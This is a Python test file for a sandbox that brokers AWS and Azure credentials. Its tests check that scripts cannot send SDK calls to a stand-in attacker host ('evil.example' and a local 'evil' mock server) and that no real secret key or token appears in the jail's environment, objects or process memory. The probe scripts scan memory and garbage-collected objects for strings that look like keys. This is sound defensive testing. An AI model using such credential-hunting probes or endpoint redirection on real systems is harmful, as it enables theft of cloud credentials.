"""What the changed SDKs do beside answering: what is ignored, and what is worthless."""

import json
import os
from collections.abc import Iterator
from contextlib import closing, suppress
from pathlib import Path
from typing import Any

import pytest

from sandbox_runner import Pool
from sandbox_runner.broker import Azure, Broker, Grant

from .broker.upstream import TOKEN, Credential, Upstream, serving
from .left import children

S = "a1111111-aaaa-4111-8111-000000000001"


def test_an_endpoint_that_a_script_names_is_ignored(run: Any, broker: Broker) -> None:
    with serving() as evil:
        code = f"""
import boto3
from botocore.config import Config
ec2 = boto3.client("ec2", region_name="us-east-1", endpoint_url="{evil.base}", verify=False,
    aws_access_key_id="AKIAEVIL", aws_secret_access_key="x",
    config=Config(proxies={{"http": "{evil.base}"}}))
result = len(ec2.describe_vpcs()["Vpcs"])
"""
        assert run(code) > 0
        assert evil.asked == []
    assert broker.calls[0].account == "111111111111"


def test_an_azure_host_that_a_script_names_is_refused(run: Any) -> None:
    with serving() as evil:
        code = f"""
from azure.core.exceptions import HttpResponseError
from azure.identity import DefaultAzureCredential
from azure.mgmt.compute import ComputeManagementClient
client = ComputeManagementClient(DefaultAzureCredential(), "{S}", base_url="https://evil.example")
try:
    list(client.disks.list())
except HttpResponseError as error:
    result = error.error.code
"""
        assert run(code) == "AccessDenied"
        assert evil.asked == []


def test_what_a_script_signs_is_signed_by_nobody(run: Any) -> None:
    url = run("""
import boto3
s3 = boto3.client("s3", region_name="us-east-1")
result = s3.generate_presigned_url("get_object", Params={"Bucket": "b", "Key": "k"})
""")
    assert "SANDBOX" in url
    assert "AKIA" not in url


def test_no_real_credential_is_anywhere_in_the_jail(
    jailed: Any, broker: Broker, sessions: dict[str, Any]
) -> None:
    told = jailed("""
import boto3, gc, os, re
from azure.identity import DefaultAzureCredential
from azure.mgmt.compute import ComputeManagementClient
for profile in boto3.Session().available_profiles:
    boto3.Session(profile_name=profile).client("sts").get_caller_identity()
subscription = "a1111111-aaaa-4111-8111-000000000001"
list(ComputeManagementClient(DefaultAzureCredential(), subscription).disks.list())
keys = boto3.Session().get_credentials().get_frozen_credentials()
small = [o for o in gc.get_objects() if isinstance(o, (dict, list, tuple)) and len(o) < 200]
# Words that are long enough to be a key, without the rest: all of it would be too much output.
texts = {word for one in small for word in re.findall("[A-Za-z0-9+/=._-]{16,}", repr(one))}
token = DefaultAzureCredential().get_token("x").token
result = [dict(os.environ), list(keys), token, sorted(texts)]
""")
    seen = json.dumps(told) + repr(broker.calls)
    real = [session.get_credentials().get_frozen_credentials() for session in sessions.values()]
    assert told[1][:2] == ["SANDBOX", "SANDBOX"]
    for keys in real:
        assert keys.secret_key not in seen
    assert TOKEN not in seen


def _memory(pid: int) -> Iterator[bytes]:
    """All that a process has in memory, as its host can read it."""
    with Path(f"/proc/{pid}/mem").open("rb") as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            span, rights, *_ = line.split()
            start, end = (int(side, 16) for side in span.split("-"))
            if "r" in rights and start < 1 << 47:
                memory.seek(start)
                with suppress(OSError):  # pages that the kernel keeps to itself
                    yield memory.read(end - start)


def _below(pid: int) -> list[int]:
    return [one for child in children(pid) for one in (child, *_below(child))]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root may read another process's memory")
def test_no_byte_of_a_real_credential_is_in_a_jobs_memory(
    pool: Pool, clouds: dict[str, Any], broker: Broker, sessions: dict[str, Any]
) -> None:
    real = [session.get_credentials().get_frozen_credentials() for session in sessions.values()]
    secrets = [keys.secret_key.encode() for keys in real] + [TOKEN.encode()]
    seen: dict[bytes, int] = dict.fromkeys((b"a mark of the script", *secrets), 0)

    def look(_: object) -> object:
        """Called by the parent while the script waits for it."""
        for pid in _below(os.getpid()):
            if "sandbox_runner" in Path(f"/proc/{pid}/cmdline").read_text():
                for part in _memory(pid):
                    for secret in seen:
                        seen[secret] += part.count(secret)
        return True

    with closing(Broker(broker.grant, query=look, **clouds)) as looking:
        told = pool.run(
            """
import boto3
from azure.identity import DefaultAzureCredential
from azure.mgmt.compute import ComputeManagementClient
mark = "a mark of the script".encode()
for profile in boto3.Session().available_profiles:
    boto3.Session(profile_name=profile).client("sts").get_caller_identity()
subscription = "a1111111-aaaa-4111-8111-000000000001"
list(ComputeManagementClient(DefaultAzureCredential(), subscription).disks.list())
result = query()
""",
            answer=looking.answer,
        )
    assert told.result is True, told
    assert seen.pop(b"a mark of the script") > 0, "nothing was looked at"
    assert seen == dict.fromkeys(secrets, 0)


def test_an_error_is_of_the_class_that_the_service_has_for_it(run: Any) -> None:
    assert run("""
import boto3, botocore.exceptions
ec2 = boto3.client("ec2", region_name="us-east-1")
try:
    ec2.describe_instances(InstanceIds=["i-0000000000000dead"])
except ec2.exceptions.ClientError as error:
    assert isinstance(error, botocore.exceptions.ClientError)
    status = error.response["ResponseMetadata"]["HTTPStatusCode"]
    result = [error.response["Error"]["Code"], error.operation_name, status]
""") == ["InvalidInstanceID.NotFound", "DescribeInstances", 400]


def test_a_parameter_that_is_none_is_botocores_own_error(run: Any) -> None:
    assert run("""
import boto3
from botocore.exceptions import ParamValidationError
try:
    boto3.client("ec2").describe_instances(Nonsense=1)
except ParamValidationError as error:
    result = "Nonsense" in str(error)
""")


def test_the_usual_account_and_region_are_the_grants_first(run: Any, broker: Broker) -> None:
    assert run("import boto3\nresult = boto3.Session().region_name") == "us-east-1"
    run("import boto3\nboto3.client('ec2').describe_vpcs()")
    assert (broker.calls[0].account, broker.calls[0].region) == ("111111111111", "us-east-1")


def test_an_account_that_is_not_granted_is_refused(run: Any) -> None:
    assert (
        run("""
import boto3
try:
    boto3.Session(profile_name="999999999999").client("ec2").describe_vpcs()
except Exception as error:
    result = error.response["Error"]["Code"]
""")
        == "AccessDenied"
    )


_COST = """
from azure.identity import DefaultAzureCredential
from azure.mgmt.costmanagement import CostManagementClient
scope = "/subscriptions/a1111111-aaaa-4111-8111-000000000001"
told = CostManagementClient(DefaultAzureCredential()).query.usage(scope, {
    "type": "ActualCost", "timeframe": "TheLastMonth",
    "dataset": {"granularity": "None",
                "aggregation": {"totalCost": {"name": "Cost", "function": "Sum"}},
                "grouping": [{"type": "Dimension", "name": "ServiceName"}]}})
names = [column.name for column in told.columns]
result = [dict(zip(names, row)) for row in told.rows]
"""


@pytest.fixture
def billing() -> Any:
    with serving() as upstream:
        yield upstream


def test_a_cost_query_of_azure_is_answered(unjailed: Any, billing: Upstream) -> None:
    columns = [{"name": name, "type": "String"} for name in ("Cost", "ServiceName", "Currency")]
    rows = [[12.5, "Virtual Machines", "EUR"], [3, "Storage", "EUR"]]
    billing.says({"properties": {"columns": columns, "rows": rows, "nextLink": None}})
    grant = Grant(subscriptions=(S,), rights=frozenset({"cost"}))
    told = unjailed.run(_COST, Broker(grant, azure=Azure(Credential(), billing.base)).answer)
    assert told.error is None, told.error
    assert told.result[0] == {"Cost": 12.5, "ServiceName": "Virtual Machines", "Currency": "EUR"}
    assert json.loads(billing.asked[0][3])["timeframe"] == "TheLastMonth"


def test_a_cost_query_of_a_strangers_subscription_is_refused(unjailed: Any) -> None:
    grant = Grant(
        subscriptions=("b2222222-bbbb-4222-8222-000000000002",), rights=frozenset({"cost"})
    )
    told = unjailed.run(_COST, Broker(grant, azure=Azure(Credential())).answer)
    assert "AccessDenied" in str(told.error)
